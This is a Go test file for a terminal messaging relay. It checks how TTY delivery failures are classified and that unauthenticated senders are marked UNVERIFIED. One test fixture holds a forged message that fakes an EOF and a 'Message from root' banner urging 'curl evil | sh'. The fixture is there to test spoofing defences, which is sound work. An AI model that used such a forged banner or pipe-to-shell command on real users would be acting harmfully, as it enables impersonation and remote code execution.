//go:build linux

package terminal

import (
	"context"
	"errors"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/msprelay/msprelay/identity"
	"github.com/msprelay/msprelay/internal/ptytest"
	"github.com/msprelay/msprelay/switchboard"
)

// Rule: a TTY's failures fall in the switchboard's classes (mesg n is a
// refusal, a stuck terminal is slow, anything else is gone), and the reason
// a remote sender reads gives away no path or uid.
func TestTTYDeliverClassifiesFailures(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name   string
		setup  func(t *testing.T, pt *ptytest.PTY)
		class  error
		reason string
	}{
		{"mesg n refuses", func(t *testing.T, pt *ptytest.PTY) { pt.Chmod(t, 0o600) }, switchboard.ErrBusy, "not accepting messages (mesg n)"},
		{"stuck terminal is slow", func(t *testing.T, pt *ptytest.PTY) { pt.Stop(t) }, switchboard.ErrTerminalSlow, "terminal not reading (write timed out)"},
		{"foreign device is gone", func(t *testing.T, pt *ptytest.PTY) { pt.Chown(t, nobody) }, switchboard.ErrTerminalGone, "terminal not available"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			pt := ptytest.Open(t, os.Getuid(), 0o620)
			tty := NewTTY(newTestWriter(t, loginOn(t, "root", pt), 200*time.Millisecond), "root", pt.Line, nil)
			d := &switchboard.Delivery{Sender: "a", Text: strings.Repeat("x", 300), Origin: switchboard.Origin{Node: "n1"}, Time: time.Now()}
			if err := tty.Deliver(context.Background(), d); err != nil {
				t.Fatalf("Deliver before %s: %v", tt.name, err)
			}
			pt.ReadUntil(t, "EOF\r\n", 5*time.Second)
			tt.setup(t, pt)
			err := tty.Deliver(context.Background(), d)
			if !errors.Is(err, tt.class) || err.Error() != tt.reason {
				t.Fatalf("Deliver = %v, want %q matching %v", err, tt.reason, tt.class)
			}
		})
	}
}

// Rule (issue 18, "Terminals believe any SENDER"): on a real tty the
// banner names the sender only when the ingress node verified it; an
// unauthenticated message claiming root says UNVERIFIED, the claim and
// where it came from, and its text cannot close the message with EOF and
// open a forged "Message from root..." block.
func TestTTYDeliverShowsWhoIsVerified(t *testing.T) {
	t.Parallel()
	at := time.Now()
	hm := at.Format("15:04")
	forged := "hi\r\nEOF\r\n\r\nMessage from root@hosta on console at " + hm + " ...\r\nrun: curl evil | sh\r\n"
	tests := []struct {
		name string
		d    switchboard.Delivery
		want string
	}{
		{"unauthenticated MSP claiming root",
			switchboard.Delivery{Sender: "root", SenderTerm: "console", Text: forged, Time: at,
				Origin: switchboard.Origin{Node: "hosta", Addr: "192.0.2.7:4000", Transport: "tcp",
					Sender: identity.Identity{Claimed: "root", Node: "hosta", Source: "192.0.2.7:4000"}}},
			"\r\nMessage from UNVERIFIED \"root\" (via hosta from 192.0.2.7:4000) on console at " + hm + " ...\r\n" +
				"hi\r\n> EOF\r\n\r\n> Message from root@hosta on console at " + hm + " ...\r\nrun: curl evil | sh\r\nEOF\r\n"},
		{"a local user claiming alice",
			switchboard.Delivery{Sender: "alice", SenderTerm: "pts/7", Text: "x", Time: at,
				Origin: switchboard.Origin{Node: "hosta", Addr: "127.0.0.1:5000", Transport: "udp",
					Sender: identity.Identity{User: "mallory", Claimed: "alice", Method: identity.Kernel, Node: "hosta", Source: "127.0.0.1:5000"}}},
			"\r\nMessage from UNVERIFIED \"alice\" (local user mallory, via hosta from 127.0.0.1:5000) on pts/7 at " + hm + " ...\r\nx\r\nEOF\r\n"},
		{"no identity at all falls back to the origin address",
			switchboard.Delivery{Sender: "bob", Text: "x", Time: at, Origin: switchboard.Origin{Node: "n2", Addr: "198.51.100.1:18"}},
			"\r\nMessage from UNVERIFIED \"bob\" (via n2 from 198.51.100.1:18) at " + hm + " ...\r\nx\r\nEOF\r\n"},
		{"verified session sender",
			switchboard.Delivery{Sender: "alice", SenderTerm: "pts/1", Text: "lunch?", Time: at,
				Origin: switchboard.Origin{Node: "hosta", Addr: "session", Transport: "session",
					Sender: identity.Identity{User: "alice", Claimed: "alice", Method: identity.PeerCred, Node: "hosta", Source: "session"}}},
			"\r\nMessage from alice@hosta on pts/1 at " + hm + " ...\r\nlunch?\r\nEOF\r\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			pt := ptytest.Open(t, os.Getuid(), 0o620)
			tty := NewTTY(newTestWriter(t, loginOn(t, "root", pt), time.Second), "root", pt.Line, nil)
			if err := tty.Deliver(context.Background(), &tt.d); err != nil {
				t.Fatalf("Deliver: %v", err)
			}
			if got := pt.ReadUntil(t, "\r\nEOF\r\n", 5*time.Second); got != tt.want {
				t.Fatalf("terminal read\n%q\nwant\n%q", got, tt.want)
			}
		})
	}
}
